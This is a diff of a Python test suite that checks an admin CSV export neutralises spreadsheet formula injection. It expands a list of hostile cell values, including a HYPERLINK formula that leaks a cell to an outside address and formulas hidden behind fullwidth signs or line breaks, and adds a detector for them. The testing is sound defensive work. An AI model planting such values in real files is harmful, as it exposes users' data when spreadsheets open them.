@@ -1,6 +1,8 @@
 """What admins do to accounts."""
 
 import csv
+import re
+import unicodedata
 from collections.abc import Mapping
 from dataclasses import replace
 from datetime import timedelta
@@ -319,7 +321,22 @@ async def test_the_same_bulk_under_one_key_is_done_once(api: Api) -> None:
     assert (second.headers["Idempotency-Replayed"], len(await entries(api))) == ("true", 1)
 
 
-HOSTILE = ("=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\r=1+1", '=HYPERLINK("http://x?"&A1)', 'a,"b"', "ж\n=1", "'=1")
+HOSTILE = (
+    *("=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\r=1+1", '=HYPERLINK("http://x?"&A1)', 'a,"b"', "ж\n=1", "'=1"),
+    *(
+        "\nx",
+        "\n=1",
+        "  =1+1",
+        "\ufeff =1",
+        "\uff1d1",
+        "\uff0b1",
+        "\uff0d1",
+        "\uff20SUM(A1)",
+        "ж;=1",
+        "ж\t=1",
+        "ж\r =1",
+    ),
+)
 
 
 async def exported(api: Api) -> str:
@@ -338,8 +355,14 @@ async def exported(api: Api) -> str:
 def formulas(file: str) -> list[str]:
     rows = list(csv.reader(StringIO(file, newline="")))
     assert rows[0][:5] == ["id", "name", "email", "phone", "role"]
-    assert sorted(row[1].removeprefix("'") for row in rows[1:]) == sorted(name.removeprefix("'") for name in HOSTILE)
-    return [cell for row in rows for cell in row if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
+    assert sorted(row[1].replace("'", "") for row in rows[1:]) == sorted(name.replace("'", "") for name in HOSTILE)
+    return [cell for row in rows for cell in row if is_computed(cell)]
+
+
+def is_computed(cell: str) -> bool:
+    """Whether some spreadsheet computes the cell or a part that it splits off; ASCII tells fullwidth from halfwidth."""
+    parts = [unicodedata.normalize("NFKC", part).strip("\ufeff ") for part in re.split(r"[;\t\r\n]", cell)]
+    return cell[:1] in ("\t", "\r", "\n") or any(part.startswith(("=", "+", "-", "@")) for part in parts)
 
 
 @through_the_api
@@ -350,9 +373,9 @@ async def test_an_export_computes_nothing_in_a_spreadsheet(api: Api) -> None:
 
 
 @through_the_api
-async def test_an_export_that_is_not_defused_is_found(api: Api, monkeypatch: pytest.MonkeyPatch) -> None:
-    monkeypatch.setattr(export, "defused", str)
-    assert len(formulas(await exported(api))) == 7 + len(HOSTILE)
+async def test_an_export_with_formulas_is_found(api: Api, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr(export, "neutralise_formulas", str)
+    assert len(formulas(await exported(api))) == 19 + len(HOSTILE)
 
 
 @through_the_api
